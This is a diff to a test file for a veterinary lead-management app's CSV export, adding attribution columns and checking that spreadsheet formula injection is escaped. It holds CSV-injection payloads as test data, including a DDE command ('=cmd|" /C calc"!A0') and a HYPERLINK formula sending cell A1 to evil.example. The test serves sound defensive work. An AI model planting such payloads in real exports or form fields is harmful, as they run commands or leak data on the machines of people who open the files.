@@ -133,6 +133,8 @@ describe('CSV export', () => {
       phone_number: '-2+3',
       additional_info: 'x',
       zip_code: '94566',
+      // A campaign name is whatever the host page's link said: neutralised like the owner's words.
+      attribution: { utm_campaign: '=cmd|" /C calc"!A0' },
     })
     const id2 = await store(
       'willow',
@@ -143,10 +145,13 @@ describe('CSV export', () => {
     expect(res.status).toBe(200)
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
     expect(text.slice(1).split('\r\n')[0]).toBe(
-      'Lead ID,Received (UTC),Kind,Status,Closed reason,Urgency,Clinic,Pet,Pet type,Breeds,Owner,E-mail,Phone,ZIP code,First contacted (UTC),Speed to lead (min),Workspace link,Complaint,Service,Notes',
+      'Lead ID,Received (UTC),Kind,Status,Closed reason,Urgency,Clinic,Pet,Pet type,Breeds,Owner,E-mail,Phone,ZIP code,First contacted (UTC),Speed to lead (min),Workspace link,Complaint,Service,Notes,' +
+        // Where the lead came from, appended so the columns before keep their places.
+        'Widget,Source,utm_source,utm_medium,utm_campaign,utm_term,utm_content,gclid,gbraid,wbraid,fbclid,msclkid,Referrer',
     )
     expect(text.endsWith('\r\n')).toBe(true)
     const byId = new Map(rows.slice(1).map((r) => [r[0], r]))
+    const header = rows[0]!
     const evil = byId.get(id)!
     expect(evil[10]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`)
     expect(evil[7]).toBe("'+SUM(1,2)")
@@ -155,6 +160,7 @@ describe('CSV export', () => {
     expect(evil.slice(1, 7)).toEqual(['2026-03-02 10:00', 'health', 'new', '', 'routine', 'willow'])
     expect(evil[13]).toBe('94566')
     expect(evil[16]).toBe(`${TEST_ORIGIN}/workspace/leads/${id}`)
+    expect(evil[header.indexOf('utm_campaign')]).toBe(`'=cmd|" /C calc"!A0`)
     // The raw line: quotes doubled inside a quoted field.
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`)
     const other = byId.get(id2)!
@@ -250,12 +256,12 @@ describe('CSV export', () => {
     // The test clock stands still, so two notes would share a time: one note keeps the order certain.
     expect((await a.patch(`${W}/leads/${id}`, { note: 'Called, no answer' }, { cookie, origin: TEST_ORIGIN })).status).toBe(200)
     const { rows } = await exportCsv(cookie, 'from=2026-03-01&to=2026-03-02&tz=America/Los_Angeles')
-    expect(rows[0]!.slice(-3)).toEqual(['Complaint', 'Service', 'Notes'])
+    expect(rows[0]!.slice(17, 20)).toEqual(['Complaint', 'Service', 'Notes'])
     expect(rows[0]![1]).toBe('Received (America/Los_Angeles)')
     const row = rows.find((r) => r[0] === id)!
     // 10:00 UTC on 2 March is 02:00 in California (PST, UTC-8): a spreadsheet reads it as that local time.
     expect(row[1]).toBe('2026-03-02 02:00')
-    expect(row.slice(-3)).toEqual(['Limping on the left hind leg', '', 'Called, no answer'])
+    expect(row.slice(17, 20)).toEqual(['Limping on the left hind leg', '', 'Called, no answer'])
   })
 
   it("records an export of N leads as exactly one log row (who, when, days, filters, zone, rows) and no line in any lead's timeline", async () => {
